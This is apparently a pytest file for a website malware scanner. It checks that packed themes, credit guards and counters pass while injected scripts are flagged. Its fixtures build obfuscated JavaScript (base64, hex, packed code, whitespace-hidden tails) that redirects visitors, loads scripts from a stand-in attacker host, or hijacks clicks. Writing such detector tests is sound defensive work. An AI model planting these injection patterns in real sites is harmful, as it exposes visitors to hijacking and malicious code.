"""What honest makers do that injected scripts do as well: packed themes, guards, counters."""

from __future__ import annotations

import re

import pytest

from cyberscan.model.verdict import Outcome
from tests.checks.content.reading import b64
from tests.checks.content.scripting import EVIL, in_file, on_page
from tests.parse.test_scripts import codes, packed

DIGITS = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
VENDOR = "https://cdn.tokotema.example"
KEPT = "https://www.tokotema.example/kredit"
CREDIT = "<footer>Desain <a href='https://www.tokotema.example/'>Mas Tema Studio</a></footer>"
MAKER = "/* Tema Hukum 4.1 (c) tokotema.example, satu lisensi untuk satu situs */"
LOAD = (
    "function muat(u,f){var s=document.createElement('script');s.async=true;s.src=u;s.onload=f;"
    "document.getElementsByTagName('head')[0].appendChild(s)}"
)
PLAIN_LOAD = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"


def pack(source: str) -> str:
    """Pack as Dean Edwards' packer does, every word."""
    words = list(dict.fromkeys(re.findall(r"\b\w+\b", source)))

    def number(match: re.Match[str]) -> str:
        n = words.index(match[0])
        return (DIGITS[n // 62] if n >= 62 else "") + DIGITS[n % 62]

    payload = re.sub(r"\b\w+\b", number, source).replace("\\", "\\\\").replace("'", "\\'")
    return packed(payload, words)


def hexed(said: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in said)


def escaped(said: str, keep: str) -> str:
    return "".join(c if c.isalnum() or c in keep else f"%{ord(c):02X}" for c in said)


def written(url: str, keep: str = "@*_+-./") -> str:
    tag = f'<script type="text/javascript" src="{url}"></script>'
    return f"document.write(unescape('{escaped(tag, keep)}'));"


def guard(shape: str, url: str) -> str:
    return f"var a=document.getElementById('mc');{shape.replace('GO', url)}"


THEMES = [
    # A theme that is packed whole, and whatever its vendor's host is good for.
    LOAD + f"muat('{VENDOR}/slider.js',function(){{new Slider('.sorot')}})",
    LOAD + f"muat('{VENDOR}/cek.js?h='+encodeURIComponent(location.hostname)+'&k=Tema.cek')",
    LOAD + f"muat('{VENDOR}/stat.js?r='+encodeURIComponent(document.referrer)+'&s='+screen.width)",
    LOAD
    + f"function kue(n){{return unescape(document.cookie)}}if(!kue('x'))muat('{VENDOR}/v4.js')",
    LOAD + f"var d='{VENDOR}/';['a','b'].forEach(function(n){{muat(d+n)}});var t='\\x3cb\\x3eTema'",
    LOAD + f"var gif=atob('R0lGODlhAQABAAAAACw=');muat('{VENDOR}/s.js')",
    LOAD + f"var d='{VENDOR}/',n=atob('{b64('Tema Dokumen Hukum')}');muat(d+'x.js')",
    LOAD + f"if(Math.random()<0.5){{putar()}}muat('{VENDOR}/geser.js')",
    LOAD + f"var x='olah'.split('').reverse().join('');muat('{VENDOR}/geser.js')",
    LOAD + f"document.querySelector('select').onchange=function(){{location.href=this.value}};"
    f"muat('{VENDOR}/menu.js')",
    LOAD + "var h=['https:','','cdn.tokotema.example','v4'].join('/');muat(h+'/geser.js')",
    f"document.write('<script src=\"{VENDOR}/js/lib.js\">\\x3C/script>')",
]
GUARDS = [
    "a===null||a.getAttribute('href')!=='x'?window['location']['href']=GO:a.title='T'",
    "setInterval(function(){!document.getElementById('mc')&&(window.location.href=GO)},3000)",
    "a&&a.offsetHeight>0||(alert('Kredit dihapus'),location.replace(GO))",
    "(function(){if(document.querySelector('#mc a'))return;location.href=GO})()",
    "try{a.setAttribute('rel','x')}catch(e){location.href=GO}",
    "function kabur(){window.location.href=GO}if(!a||a.innerHTML.indexOf('Tema')<0)kabur();",
    "function cek(){if(a==null)lari();}function lari(){top.location=GO}setTimeout(cek,500)",
    (
        "var l=document.links,ada=false;for(var i=0;i<l.length;i++)if(/toko/.test(l[i]))ada=true;"
        "ada||(location.href=GO)"
    ),
    "if(['www.contoh.go.test'].indexOf(location.hostname)<0)top.location.replace(GO)",
    "switch(document.querySelectorAll('.kredit a').length){case 0:location.href=GO}",
]
DISGUISES = [
    f"'{hexed(KEPT)}'",
    f"atob('{b64(KEPT)}')",
    f"String.fromCharCode({codes(KEPT)})",
    "['https:/','/www.tok','otema.exa','mple/kredit'].join('')",
]
COUNTERS = [
    # The letters are left as they are, whichever marks are escaped.
    written("http://widgets.hitungan.example/small.js", "@*_+-"),
    written("http://js.users.51.example/1.js", "@*_+-"),
    written("//counter.pengunjungku.example/hit.js?id=7"),
    # Nothing is, but who counts is known.
    written("http://s10.histats.com/js15.js", ""),
    f"document.write(String.fromCharCode({codes('<script src=//c.statcounter.com/a></script>')}))",
    PLAIN_LOAD.format(f"atob('{b64('https://rf.revolvermaps.com/0/0/6.js')}')"),
]
DARK = (
    "document.addEventListener('DOMContentLoaded',function(){if(localStorage.getItem('gelap'))"
    "document.body.className='gelap';if(matchMedia('(max-width:700px)').matches)menu()});"
)
HONEST = [
    # Who goes on with what he loads is no second fact.
    (LOAD + f"var u=atob('{b64(EVIL + '/a.js')}');[u].map(function(v){{muat(v)}})", ""),
    *((pack(source), "") for source in THEMES),
    *((guard(shape, url), "") for shape in GUARDS for url in DISGUISES),
    *((DARK + guard(shape, DISGUISES[0]), CREDIT) for shape in GUARDS),
    *((source, "") for source in COUNTERS),
    # The six that were thought of as whole pages.
    (
        pack(LOAD + f"muat('{VENDOR}/lisensi.js?h='+location.host);muat('{VENDOR}/huruf.js')"),
        "<div class=jdih>JDIH: 214 perda, 1.806 perbup</div>",
    ),
    (DARK + PLAIN_LOAD.format(f"'{hexed(VENDOR + '/menu.js')}'"), CREDIT),
    (MAKER + PLAIN_LOAD.format(f"atob('{b64(VENDOR)}')+'?h='+location.hostname"), ""),
    (
        "/* RamahAkses: sematkan sebelum </head> */"
        + PLAIN_LOAD.format(
            f"String.fromCharCode({codes('https://muat.ramahakses.example/w.js')})"
        ),
        "",
    ),
    (
        "if(document.cookie.indexOf('tur=1')<0){document.cookie='tur=1';"
        + PLAIN_LOAD.format(f"atob('{b64(VENDOR)}')")
        + "}",
        CREDIT,
    ),
    (written("http://s10.histats.com/js15.js", "") + written("//hitungan.example/c.js", "-"), ""),
]
TAIL = pack(PLAIN_LOAD.format(f"'{EVIL}/stat.php?r='+document.referrer"))
ASKS = (
    f"var u='{EVIL[::-1]}'.split('').reverse().join(''),x=new XMLHttpRequest();x.open('GET',u);"
    "x.onload=function(){var o=JSON.parse(x.responseText);if(o.u)document.addEventListener('click',"
    "function(e){HIT location.href=o.u},true)};x.send()"
)
GUILTY = [
    # Every letter is escaped, and nobody known counts.
    (written(f"{EVIL}/a.js", "").replace("jahat", "%6A%61%68%61%74"), "loader"),
    # Whoever comes is moved; a look at the head of the page to load something guards nothing.
    (f"location.href=atob('{b64(EVIL)}')", "loader"),
    (f"setTimeout(function(){{location.replace('{hexed(EVIL)}')}},900)", "loader"),
    (
        (
            "if(document.getElementById('x')&&/google/.test(document.referrer))"
            f"location.href=atob('{b64(EVIL)}')"
        ),
        "visitors",
    ),
    # Behind a theme's own packed file, where no editor shows it.
    (pack("menu=function(){buka()}") + ";" + " " * 160 + TAIL, "loader"),
    # Where to is asked for once, and whoever clicks next goes there.
    (ASKS.replace("HIT", ""), "visitors"),
]
# A list as an obfuscator makes it, of which nothing is used.
FALSE_LIST = (
    "function l(){var x=['1a','jahat.example'];return x;}function d(a,c){a=a-1;return l()[a]};"
    "(function(q,w){z=parseInt(d(1))})(l,1);d(2);"
)
HIDDEN = [f"'{hexed(EVIL)}'", f"atob('{b64(EVIL)}')", f"String.fromCharCode({codes(EVIL)})"]
# Tests on which nothing hangs, and an owner's name in a comment, cost an intruder nothing.
IDLE = "if(location.hostname!=='www.contoh.go.test'){var z='abcdef'}"
SEEN = "if(document.cookie.indexOf('a=1')<0){document.cookie='a=1';"
IDLE_TESTS = [
    (f"{IDLE}if(screen.width<600){{location.href=atob('{b64(EVIL)}')}}", "visitors"),
    (f"{IDLE}{SEEN}location.href=atob('{b64(EVIL)}')}}", "visitors"),
    (f"{IDLE}if(screen.width<600){{location.href='{EVIL}/x'}}", "visitors"),
    *(
        (f"{first}{move.format(f'location.href={hidden}')}", "loader")
        for first in (IDLE, "/* jahat.example */", "document.querySelector('#x');", FALSE_LIST)
        for move in (
            "{}",
            "(function(){{function d(s){{return s}}{}}})()",
            "window.onload=()=>{{{}}}",
            "setTimeout(function(){{try{{{}}}catch(e){{}}}},900)",
        )
        for hidden in HIDDEN
    ),
]
NAMED = [
    PLAIN_LOAD.format(f"atob('{b64(EVIL + '/a.js')}')"),
    PLAIN_LOAD.format(f"'{hexed(EVIL)}/a.js'"),
    f"var a=document.getElementById('mc');if(!a)location.href=atob('{b64(EVIL)}')",
]
DECOYS = [
    "/* jahat.example */",
    "// jahat.example\n",
    "var a='//jahat.example';",
    "var a='jahat%2eexample';",
    FALSE_LIST,
]
LIKE_GUILTY = [
    pack("menu=function(){buka()}") + ";" + " " * 160 + pack("tutup=function(){menu()}"),
    pack("menu=function(){buka()}") + ";\n" + " " * 160 + TAIL,
    ASKS.replace("HIT", "if(!e.target.closest('.iklan'))return;"),
]


@pytest.mark.parametrize(("source", "page"), HONEST)
def test_makers_are_not_accused(source: str, page: str) -> None:
    for verdict in (on_page(source, page), in_file(source, page)):
        assert verdict.outcome is Outcome.PASS or verdict.message == "look"


@pytest.mark.parametrize(("source", "message"), GUILTY)
def test_who_does_the_same_for_himself_is(source: str, message: str) -> None:
    assert on_page(source, "").message == message
    assert in_file(source, "").message == message


@pytest.mark.parametrize(("source", "message"), IDLE_TESTS)
def test_what_decides_nothing_excuses_nothing(source: str, message: str) -> None:
    assert on_page(source, "").message == message
    assert in_file(source, "").message == message


@pytest.mark.parametrize("source", NAMED)
@pytest.mark.parametrize("decoy", DECOYS)
def test_a_name_that_the_script_itself_says_leaves_it_odd(decoy: str, source: str) -> None:
    for verdict in (on_page(decoy + source, ""), in_file(decoy + source, "")):
        assert verdict.outcome is Outcome.FAIL


@pytest.mark.parametrize("source", LIKE_GUILTY)
def test_what_is_like_it(source: str) -> None:
    for verdict in (on_page(source, ""), in_file(source, "")):
        assert verdict.outcome is Outcome.PASS or verdict.message == "look"


def test_a_credit_excuses_no_move_of_searchers() -> None:
    test = "/google/.test(document.referrer)&&!document.getElementById('x')"
    source = f"if({test})location.href={DISGUISES[0]}"
    assert on_page(source, CREDIT).message == "visitors"
